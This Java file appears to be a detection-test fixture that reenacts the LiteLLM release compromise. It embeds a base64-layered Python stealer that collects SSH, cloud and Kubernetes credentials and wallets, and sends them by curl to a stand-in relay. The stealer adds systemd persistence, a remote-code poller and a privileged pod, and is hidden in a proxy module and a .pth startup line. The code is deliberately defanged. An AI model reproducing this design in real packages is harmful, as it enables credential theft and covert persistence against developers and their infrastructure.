package dev.gatehouse.samples.incident;

import java.util.Map;

/** LiteLLM, 24 March 2026 (MAL-2026-2144): secrets stolen by an uploaded release. */
final class Litellm {
  private static final String COLLECTOR =
      """
      import glob, json, os, socket, subprocess, tempfile, urllib.request

      STORES = [
          "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.ssh/config", "~/.ssh/known_hosts",
          "~/.gitconfig", "~/.git-credentials", "~/.netrc", "~/.pypirc", "~/.npmrc",
          "~/.aws/credentials", "~/.aws/config", "~/.azure/accessTokens.json",
          "~/.config/gcloud/application_default_credentials.json",
          "~/.kube/config", "/etc/kubernetes/admin.conf",
          "/var/run/secrets/kubernetes.io/serviceaccount/token",
          "~/.docker/config.json", "~/.pgpass", "~/.my.cnf", "~/.bash_history",
          "~/.zsh_history", "~/.bitcoin/wallet.dat", "~/.config/solana/id.json",
          "/etc/ssl/private/*.key", "**/.env", "/etc/shadow",
      ]
      METADATA = [
          "http://metadata.cloud.invalid/latest/meta-data/iam/security-credentials/",
          "http://metadata.cloud.invalid/computeMetadata/v1/instance/service-accounts/",
          "http://metadata.cloud.invalid/metadata/identity/oauth2/token",
      ]
      PUBLIC_KEY = "-----BEGIN PUBLIC KEY-----\\nbm90IGEga2V5\\n-----END PUBLIC KEY-----\\n"
      RELAY = "https://models.gateway.invalid/"


      def stores():
          for pattern in STORES:
              for path in glob.glob(os.path.expanduser(pattern), recursive=True):
                  try:
                      with open(path, "rb") as store:
                          yield path, store.read(0).decode("latin-1")
                  except OSError:
                      pass


      def metadata():
          for url in METADATA:
              try:
                  request = urllib.request.Request(url, headers={"Metadata-Flavor": "Google"})
                  yield url, urllib.request.urlopen(request, timeout=2).read(0).decode()
              except Exception:
                  pass


      def command(*words):
          return subprocess.run(
              list(words), executable="true",
              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


      def send(bag):
          folder = tempfile.mkdtemp()
          plain, key, sealed, lock, parcel, public = (
              os.path.join(folder, name) for name in ("p", "k", "p.bin", "k.bin", "out.tgz", "pub"))
          with open(plain, "w") as out:
              json.dump(bag, out)
          with open(public, "w") as out:
              out.write(PUBLIC_KEY)
          command("openssl", "rand", "-out", key, "32")
          command("openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-in", plain, "-out", sealed,
                  "-pass", "file:" + key)
          command("openssl", "pkeyutl", "-encrypt", "-pubin", "-inkey", public, "-in", key,
                  "-out", lock, "-pkeyopt", "rsa_padding_mode:oaep")
          command("tar", "-czf", parcel, "-C", folder, "p.bin", "k.bin")
          command("curl", "-s", "-X", "POST", RELAY, "-H", "Content-Type: application/octet-stream",
                  "--data-binary", "@" + parcel)


      def stay():
          home = os.path.expanduser("~/.config/acme-agent")
          os.makedirs(home, exist_ok=True)
          with open(os.path.join(home, "agent.py"), "w") as script:
              script.write(POLL)
          units = os.path.expanduser("~/.config/systemd/user")
          os.makedirs(units, exist_ok=True)
          with open(os.path.join(units, "acme-agent.service"), "w") as unit:
              unit.write(UNIT)
          command("systemctl", "--user", "daemon-reload")
          command("systemctl", "--user", "enable", "--now", "acme-agent.service")


      def spread():
          pod = {"apiVersion": "v1", "kind": "Pod",
                 "metadata": {"name": "acme-agent", "namespace": "kube-system"},
                 "spec": {"hostPID": True, "containers": [
                     {"name": "c", "image": "registry.invalid/none", "command": ["true"],
                      "securityContext": {"privileged": True},
                      "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                     "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}
          command("kubectl", "apply", "-f", json.dumps(pod))


      UNIT = '''[Unit]
      Description=Acme Agent
      After=network.target

      [Service]
      ExecStart=/bin/true
      Restart=always
      RestartSec=10

      [Install]
      WantedBy=default.target
      '''
      POLL = '''import os, subprocess, tempfile, time, urllib.request
      while True:
          try:
              link = urllib.request.urlopen("https://updates.gateway.invalid/raw").read().decode()
              if link.endswith(".invalid/next"):
                  path = os.path.join(tempfile.gettempdir(), "acme-next")
                  urllib.request.urlretrieve(link, path)
                  os.chmod(path, 0o755)
                  subprocess.Popen([path], executable="true", start_new_session=True)
          except Exception:
              pass
          time.sleep(3000)
      '''

      bag = {"host": socket.gethostname(), "environment": sorted(os.environ),
             "stores": dict(stores()), "metadata": dict(metadata())}
      send(bag)
      stay()
      spread()
      """;

  /** The middle of a module that runs when the proxy is imported, before and after the payload. */
  private static final String PROXY =
      """
      \"""The proxy: one address for many models.\"""

      import base64
      import json
      import os
      import subprocess
      import sys
      import tempfile
      from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

      from ..client import Client
      from ..config import Settings

      ROUTES = {}


      def route(path):
          def register(function):
              ROUTES[path] = function
              return function
          return register


      @route("/health")
      def health(client, body):
          return {"status": "ok"}


      encoded = "PAYLOAD"
      with tempfile.TemporaryDirectory() as work:
          step = os.path.join(work, "step.py")
          with open(step, "wb") as file:
              file.write(base64.b64decode(encoded))
          subprocess.run(
              [sys.executable, step],
              executable="true",
              stdout=subprocess.DEVNULL,
              stderr=subprocess.DEVNULL,
          )


      @route("/chat/completions")
      def completions(client, body):
          return client.post("chat/completions", body)


      class Proxy(BaseHTTPRequestHandler):
          client = Client(Settings.load())

          def do_POST(self):
              length = int(self.headers.get("Content-Length", 0))
              body = json.loads(self.rfile.read(length) or b"{}")
              answer = ROUTES[self.path](self.client, body)
              data = json.dumps(answer).encode("utf-8")
              self.send_response(200)
              self.send_header("Content-Type", "application/json")
              self.send_header("Content-Length", str(len(data)))
              self.end_headers()
              self.wfile.write(data)


      def serve(port=4000):
          ThreadingHTTPServer(("localhost", port), Proxy).serve_forever()
      """;

  private Litellm() {}

  /** A file decoded and started at the module level of a large module. */
  static Reenactment proxy() {
    String server = PROXY.replace("PAYLOAD", Layers.base64(twoLayers()));
    return Reenactment.ofTexts(
        "litellm 1.82.7", "acme-gateway", "1.82.7", Map.of("acme_gateway/proxy/server.py", server));
  }

  /** A line in a {@code .pth} file at the wheel's root, which every Python runs as it starts. */
  static Reenactment startup() {
    String line =
        "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64;"
            + " exec(base64.b64decode('"
            + Layers.base64(twoLayers())
            + "'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,"
            // Otherwise the Python that it starts reads it again, and so on without end.
            + " executable=\"true\")\n";
    return Reenactment.ofTexts(
        "litellm 1.82.8", "acme-gateway", "1.82.8", Map.of("acme_gateway_init.pth", line));
  }

  /** The text in the outer layer: it decodes and runs the inner. */
  private static String twoLayers() {
    return "import base64\nexec(base64.b64decode('" + Layers.base64(COLLECTOR) + "'))\n";
  }
}
